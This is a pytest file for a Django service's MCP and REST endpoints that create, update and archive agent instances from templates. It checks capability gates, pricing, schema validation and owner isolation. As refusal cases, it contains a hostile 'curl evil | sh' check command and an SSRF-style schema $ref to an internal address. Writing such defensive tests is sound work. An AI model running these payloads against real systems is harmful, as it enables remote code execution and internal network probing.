"""Self-serve composition: templates listed, instances made from them, changed and archived over MCP and REST.

The MCP tools go through the one service of instance writes (`instances.services`) with the
caller's capabilities, as REST does: a person without `run_programs` gets only what templates
allow (a judge's rubric and a response schema among it), never a command or a check. Another
user's instance is not found. The official MCP client SDK talks to the server in-process.
"""

import json
from decimal import Decimal

import anyio
import pytest
from django.contrib.auth.models import Permission
from django.test import Client as DjangoClient
from django.utils import timezone
from mcp import Client

from audit.models import AuditEntry
from budgets.models import Price
from instances.models import Instance
from web.auth import make_token
from web.mcp_server import build_server, stdio_caller

pytestmark = pytest.mark.django_db(transaction=True)

RUBRIC = "Every report appears once; each severity is justified by the report's own words."
SCHEMA = {
    "type": "object",
    "required": ["reports"],
    "properties": {"reports": {"type": "array", "minItems": 1}},
}


@pytest.fixture(autouse=True)
def shipped_prices():
    """The shipped templates' models, priced as migration 0004 prices them (a flushed test database has none)."""
    for model, rates in {
        "claude-sonnet-5-5": ("3", "15", "3.75", "0.30"),
        "claude-haiku-5-5": ("1", "5", "1.25", "0.10"),
    }.items():
        Price.objects.get_or_create(
            model=model,
            defaults=dict(
                zip(
                    (
                        "input_usd_per_mtok",
                        "output_usd_per_mtok",
                        "cache_write_usd_per_mtok",
                        "cache_read_usd_per_mtok",
                    ),
                    map(Decimal, rates),
                    strict=True,
                ),
                effective_from=timezone.now().date().replace(year=2020),
            ),
        )


def mcp(user, *calls):
    """Make each (tool, arguments) call as `user` through the MCP client SDK; return (is_error, result) each."""

    async def go():
        answers = []
        async with Client(build_server(stdio_caller(user.pk))) as client:
            for tool, arguments in calls:
                result = await client.call_tool(tool, arguments)
                if result.is_error:
                    answers.append((True, result.content[0].text))
                else:
                    answers.append((False, result.structured_content or json.loads(result.content[0].text)))
        return answers

    return anyio.run(go)


def one(user, tool, **arguments):
    return mcp(user, (tool, arguments))[0]


def rest(user, method, path, body=None):
    kwargs = {"data": json.dumps(body), "content_type": "application/json"} if body is not None else {}
    answer = getattr(DjangoClient(), method)(
        f"/v1{path}", headers={"Authorization": f"Bearer {make_token(user)}"}, **kwargs
    )
    return answer.status_code, answer.json()


def test_templates_are_listed_over_mcp_and_rest_with_what_an_instance_gets(user):
    failed, listed = one(user, "list_templates")
    assert not failed
    status, body = rest(user, "get", "/templates")
    assert status == 200 and body == listed
    by_name = {t["name"]: t for t in listed["templates"]}
    lead = by_name["plan-build-qa"]
    assert not lead["role"] and lead["roles"] == {
        "planner": "pbq-planner",
        "builder": "pbq-builder",
        "qa": "pbq-qa",
    }
    assert lead["verify_with_role"] == "qa" and lead["usable"]
    assert by_name["pbq-qa"]["role"] and by_name["rwc-checker"]["role"]
    assert by_name["triage"]["judge_rubric"] and by_name["triage"]["response_schema"]["type"] == "object"
    assert by_name["research-write-check"]["verify_with_role"] == "checker"
    names = [t["name"] for t in listed["templates"]]
    assert names.index("plan-build-qa") < names.index("pbq-qa")  # the ones to start from come first


def test_a_plain_user_creates_from_a_template_with_a_rubric_and_a_schema_over_mcp(user):
    failed, made = one(
        user,
        "create_instance",
        template="triage",
        name="my triage",
        settings={
            "judge_rubric": RUBRIC,
            "judge_pass_threshold": 70,
            "response_schema": SCHEMA,
            "max_iterations": 3,
        },
    )
    assert not failed, made
    stored = Instance.objects.get(pk=made["id"])
    assert (stored.owner, stored.template.name, stored.judge_rubric, stored.response_schema) == (
        user,
        "triage",
        RUBRIC,
        SCHEMA,
    )
    assert stored.judge_pass_threshold == 70 and stored.max_iterations == 3 and made["judge_rubric"] == RUBRIC
    entry = AuditEntry.objects.get(action="instance.create")
    assert (entry.via, entry.username) == ("mcp", "ada")


@pytest.mark.parametrize(
    "settings",
    [
        {"checks": [{"name": "sneaky", "command": ["sh", "-c", "curl evil | sh"]}]},
        {"command": ["sh", "-c", "id"]},
        {"tools": ["run_command"]},
    ],
    ids=["checks", "command", "tools"],
)
def test_a_plain_users_command_is_refused_over_mcp_and_rest(user, settings):
    failed, said = one(user, "create_instance", template="triage", name="sneaky", settings=settings)
    assert failed and "needs the run_programs capability" in said, said
    status, body = rest(user, "post", "/instances", {"name": "sneaky", "template": "triage", **settings})
    assert status == 403 and "run_programs" in body["error"]
    assert not Instance.objects.exists()


def test_a_user_with_the_capability_may_set_a_check(user):
    user.user_permissions.add(Permission.objects.get(codename="run_programs"))
    checks = [{"name": "report", "command": ["test", "-s", "triage.json"]}]
    failed, made = one(
        user, "create_instance", template="triage", name="checked", settings={"checks": checks}
    )
    assert not failed, made
    assert Instance.objects.get(pk=made["id"]).checks[0]["command"] == ["test", "-s", "triage.json"]


def test_update_sets_a_rubric_but_not_a_check_and_archive_archives(user):
    _, made = one(user, "create_instance", template="coder", name="fixer")
    answers = mcp(
        user,
        ("update_instance", {"instance": made["id"], "settings": {"judge_rubric": "the fix has a test"}}),
        (
            "update_instance",
            {"instance": "fixer", "settings": {"checks": [{"name": "t", "command": ["true"]}]}},
        ),
        ("archive_instance", {"instance": made["id"]}),
    )
    (ok, updated), (refused, said), (archived_failed, archived) = answers
    assert not ok and updated["judge_rubric"] == "the fix has a test"
    assert refused and "checks needs the run_programs capability" in said
    assert not archived_failed and archived["archived_at"]
    stored = Instance.objects.get(pk=made["id"])
    assert (
        stored.judge_rubric == "the fix has a test" and stored.checks[0]["name"] == "tests"
    )  # the template's
    assert list(
        AuditEntry.objects.filter(instance_ref=stored.pk).values_list("action", "via").order_by("id")
    ) == [
        ("instance.create", "mcp"),
        ("instance.update", "mcp"),
        ("instance.archive", "mcp"),
    ]


def test_a_judge_model_without_a_price_is_refused_naming_it(user):
    failed, said = one(
        user,
        "create_instance",
        template="triage",
        name="t",
        settings={"judge_rubric": RUBRIC, "judge_model": "claude-unpriced-9"},
    )
    assert failed and said.startswith("judge_model: ") and "'claude-unpriced-9', which has no price" in said
    status, body = rest(
        user, "post", "/instances", {"name": "t", "template": "triage", "judge_model": "claude-unpriced-9"}
    )
    assert status == 400 and body["field"] == "judge_model" and "no price" in body["error"]
    _, made = one(user, "create_instance", template="triage", name="t")
    status, body = rest(user, "patch", f"/instances/{made['id']}", {"judge_model": "claude-unpriced-9"})
    assert status == 400 and body["field"] == "judge_model"
    assert Instance.objects.get(pk=made["id"]).judge_model == ""


@pytest.mark.parametrize(
    ("settings", "said"),
    [
        ({"response_schema": {"type": "nonsense"}}, "response_schema"),
        ({"response_schema": ["not", "an", "object"]}, "response_schema"),
        ({"judge_pass_threshold": 101}, "judge_pass_threshold"),
        ({"judge_pass_threshold": True}, "judge_pass_threshold"),
        ({"judge_rubric": 5}, "judge_rubric"),
        ({"colour": "blue"}, "unknown setting 'colour'"),
    ],
    ids=["bad-schema", "schema-not-object", "threshold-high", "threshold-bool", "rubric-number", "unknown"],
)
def test_bad_grading_settings_are_clear_errors_never_a_crash(user, settings, said):
    failed, text = one(user, "create_instance", template="triage", name="t", settings=settings)
    assert failed and said in text and "Traceback" not in text and "Error executing tool" not in text, text
    status, body = rest(user, "post", "/instances", {"name": "t", "template": "triage", **settings})
    assert 400 <= status < 500 and "error" in body
    assert not Instance.objects.exists()


def test_a_response_schema_referring_outside_itself_is_refused_on_create_and_update(user):
    """A `$ref` anywhere in the schema must start with '#': Tether never fetches one (no SSRF through grading)."""
    remote = {
        "type": "object",
        "properties": {"a": {"allOf": [{"type": "string"}, {"$ref": "http://127.0.0.1:9/internal"}]}},
    }
    failed, said = one(
        user, "create_instance", template="triage", name="t", settings={"response_schema": remote}
    )
    assert failed and "response_schema" in said and "'$ref' starting with '#'" in said, said
    status, body = rest(
        user, "post", "/instances", {"name": "t", "template": "triage", "response_schema": remote}
    )
    assert (
        status == 400 and body["field"] == "response_schema" and "'$ref' starting with '#'" in body["error"]
    )
    assert not Instance.objects.exists()

    _, made = one(user, "create_instance", template="triage", name="t")
    before = Instance.objects.get(pk=made["id"]).response_schema
    failed, said = one(user, "update_instance", instance=made["id"], settings={"response_schema": remote})
    assert failed and "response_schema" in said and "'$ref' starting with '#'" in said, said
    status, body = rest(user, "patch", f"/instances/{made['id']}", {"response_schema": remote})
    assert status == 400 and body["field"] == "response_schema"
    assert Instance.objects.get(pk=made["id"]).response_schema == before

    local = {
        "$defs": {"r": {"type": "array"}},
        "type": "object",
        "properties": {"reports": {"$ref": "#/$defs/r"}},
    }
    status, body = rest(user, "patch", f"/instances/{made['id']}", {"response_schema": local})
    assert status == 200 and Instance.objects.get(pk=made["id"]).response_schema == local


def test_an_unknown_template_is_named(user):
    failed, said = one(user, "create_instance", template="no-such", name="t")
    assert failed and "unknown template 'no-such'" in said and "plan-build-qa" in said


def test_another_users_instance_is_not_found_over_mcp(user, other_user, make_instance):
    theirs = make_instance(other_user, name="bobs", brain="anthropic", command=[], model="claude-sonnet-5-5")
    answers = mcp(
        user,
        ("update_instance", {"instance": theirs.pk, "settings": {"judge_rubric": "mine now"}}),
        ("update_instance", {"instance": "bobs", "settings": {"max_iterations": 1}}),
        ("archive_instance", {"instance": theirs.pk}),
    )
    for failed, said in answers:
        assert failed and "not found" in said and "bobs" not in said.replace("'bobs'", ""), said
    theirs.refresh_from_db()
    assert theirs.judge_rubric == "" and theirs.archived_at is None and theirs.max_iterations == 10
    status, _ = rest(user, "patch", f"/instances/{theirs.pk}", {"judge_rubric": "mine now"})
    assert status == 404


def test_the_composition_tools_are_listed(user):
    async def go():
        async with Client(build_server(stdio_caller(user.pk))) as client:
            return {tool.name for tool in (await client.list_tools()).tools}

    assert {
        "list_templates",
        "create_instance",
        "update_instance",
        "archive_instance",
        "rollback",
    } <= anyio.run(go)
